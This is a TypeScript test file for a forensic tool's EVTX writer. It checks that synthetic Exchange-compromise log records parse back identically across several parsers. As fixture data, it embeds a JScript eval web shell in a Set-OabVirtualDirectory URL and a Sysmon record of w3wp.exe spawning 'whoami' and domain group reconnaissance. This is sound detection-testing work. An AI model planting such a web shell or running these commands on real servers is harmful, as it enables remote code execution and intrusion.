// The fixture EVTX writer: files it writes are read back identically by evtxexport (libevtx), python-evtx and the
// parser, including the three Exchange-compromise traces the synthetic evidence generator plants.
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { promisify } from 'node:util';
import { readEvtxRecords } from '../../../electron/ingest/sources/evtx/index.ts';
import { elemToXml } from '../../../electron/ingest/sources/evtx/xml.ts';
import { writeEvtx, type EvtxRecordSpec } from '../../fixtures/evtx-writer.ts';
import { haveTool, parseBytes, pieces } from './support.ts';

const run = promisify(execFile);
const SHELL_URL = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>`;

const TRACES: EvtxRecordSpec[] = [
  {
    recordId: 52001, time: '2021-03-03T04:12:31.1234567Z', provider: 'MSExchange Unified Messaging',
    eventSourceName: 'MSExchange Unified Messaging', eventId: 100, qualifiers: 49152, level: 2, task: 1,
    channel: 'Application', computer: 'EXCH01.contoso.local',
    data: ['UM worker process', "System.InvalidCastException: Unable to cast object of type 'System.Object' to type 'Microsoft.Exchange.UM.UMCore.ProcessingResult'."],
  },
  {
    recordId: 7713, time: '2021-03-03T04:20:05.5000000Z', provider: 'MSExchange CmdletLogs', eventSourceName: 'MSExchange CmdletLogs',
    eventId: 1, level: 4, channel: 'MSExchange Management', computer: 'EXCH01.contoso.local',
    data: ['Set-OabVirtualDirectory', `-ExternalUrl '${SHELL_URL}' -Identity 'OAB (Default Web Site)'`, 'contoso.local/Users/SYSTEM', 'S-1-5-18'],
  },
  {
    recordId: 99120, time: '2021-03-03T04:21:00.0000001Z', provider: 'Microsoft-Windows-Sysmon',
    providerGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}', eventId: 1, version: 5, level: 4, task: 1,
    keywords: '0x8000000000000000', channel: 'Microsoft-Windows-Sysmon/Operational', computer: 'EXCH01.contoso.local',
    userId: 'S-1-5-18', processId: 2160, threadId: 3412,
    data: {
      Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c whoami & net group "Exchange Trusted Subsystem" /domain',
      User: 'NT AUTHORITY\\SYSTEM', ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      ParentCommandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool"',
    },
  },
];

/** Filler records (each carries its own template, so 80 of them need several chunks). */
const filler = (n: number): EvtxRecordSpec[] => Array.from({ length: n }, (_, i) => ({
  recordId: 200 + i, time: `2021-03-02T10:${String(i % 60).padStart(2, '0')}:00.0000000Z`, provider: 'Microsoft-Windows-Security-Auditing',
  providerGuid: '{54849625-5478-4994-A5BA-3E3B0328C30D}', eventId: 4624, version: 2, level: 0, task: 12544,
  keywords: '0x8020000000000000', channel: 'Security', computer: 'EXCH01.contoso.local', processId: 612, threadId: 1280,
  data: { TargetUserName: `user${i}`, LogonType: '3', IpAddress: `10.0.0.${i % 250}`, Padding: 'x'.repeat(300) },
}));

test('written traces parse back to the fields the detections look for', async () => {
  const { events, warnings } = await parseBytes(writeEvtx(TRACES), 'C/Windows/System32/winevt/Logs/Application.evtx');
  assert.deepEqual(warnings, []);
  assert.equal(events.length, 3);
  const [um, mgmt, sysmon] = events;
  assert.equal(um.fields.Provider, 'MSExchange Unified Messaging');
  assert.equal(um.fields.Level, 2);
  assert.equal(um.fields.Channel, 'Application');
  assert.equal(um.fields.Qualifiers, '49152');
  assert.match(String(um.fields['data.1']), /^System\.InvalidCastException/);
  assert.equal(um.ts, Date.parse('2021-03-03T04:12:31.123Z') * 1000 + 456);
  assert.deepEqual(um.ref, { file: 'C/Windows/System32/winevt/Logs/Application.evtx', record: 52001, offset: 4096 + 512 });
  assert.equal(mgmt.fields.Channel, 'MSExchange Management');
  assert.equal(mgmt.fields['data.0'], 'Set-OabVirtualDirectory');
  assert.ok(String(mgmt.fields['data.1']).includes(SHELL_URL));
  assert.equal(sysmon.fields['data.ParentImage'], 'C:\\Windows\\System32\\inetsrv\\w3wp.exe');
  assert.equal(sysmon.fields.UserID, 'S-1-5-18');
  assert.equal(sysmon.fields.ProcessID, 2160);
  assert.equal(sysmon.ts, Date.parse('2021-03-03T04:21:00Z') * 1000);
  assert.equal(sysmon.message, 'Sysmon 1: process created C:\\Windows\\System32\\cmd.exe "cmd /c whoami & net group "Exchange Trusted Subsystem" /domain" by NT AUTHORITY\\SYSTEM (parent w3wp.exe "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool"")');
  assert.equal(mgmt.message, `MSExchange Management 1: Set-OabVirtualDirectory ${mgmt.fields['data.1']} by ${mgmt.fields['data.2']}`.slice(0, 499) + (String(mgmt.message).endsWith('…') ? '…' : ''));
});

test('evtxexport and python-evtx read a written multi-chunk file exactly as the parser does', async (t) => {
  const records = [...filler(80), ...TRACES];
  const bytes = writeEvtx(records);
  assert.ok(bytes.length >= 4096 + 3 * 65536 && (bytes.length - 4096) % 65536 === 0, `${bytes.length} bytes`);
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'loupe-evtx-'));
  try {
    const file = path.join(dir, 'written.evtx');
    fs.writeFileSync(file, bytes);
    const { events, warnings } = await parseBytes(bytes);
    assert.deepEqual(warnings, []);
    assert.deepEqual(events.map((e) => e.ref.record), records.map((r) => r.recordId));
    if (!haveTool('evtxexport')) return t.skip('evtxexport not installed (Debian package libevtx-utils)');
    const { stdout, stderr } = await run('evtxexport', ['-f', 'xml', file], { maxBuffer: 64 << 20, encoding: 'utf8' });
    assert.equal(stderr, '');
    let ours = 'evtxexport 20181227\n\n';
    for await (const rec of readEvtxRecords(pieces(bytes), () => {})) ours += elemToXml(rec.event) + '\n';
    assert.equal(ours, stdout.replace(/(T\d\d:\d\d:\d\d\.\d{7})00Z/g, '$1Z'));
    assert.ok(stdout.includes('-ExternalUrl \'http://f/&lt;script language="JScript" runat="server"&gt;'));
    if (!haveTool('evtx_dump.py')) return t.skip('evtx_dump.py not installed (Debian package python3-evtx)');
    const py = await run('evtx_dump.py', [file], { maxBuffer: 64 << 20, encoding: 'utf8' });
    const ids = [...py.stdout.matchAll(/<EventRecordID>(\d+)</g)].map((m) => Number(m[1]));
    assert.deepEqual(ids, records.map((r) => r.recordId));
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});
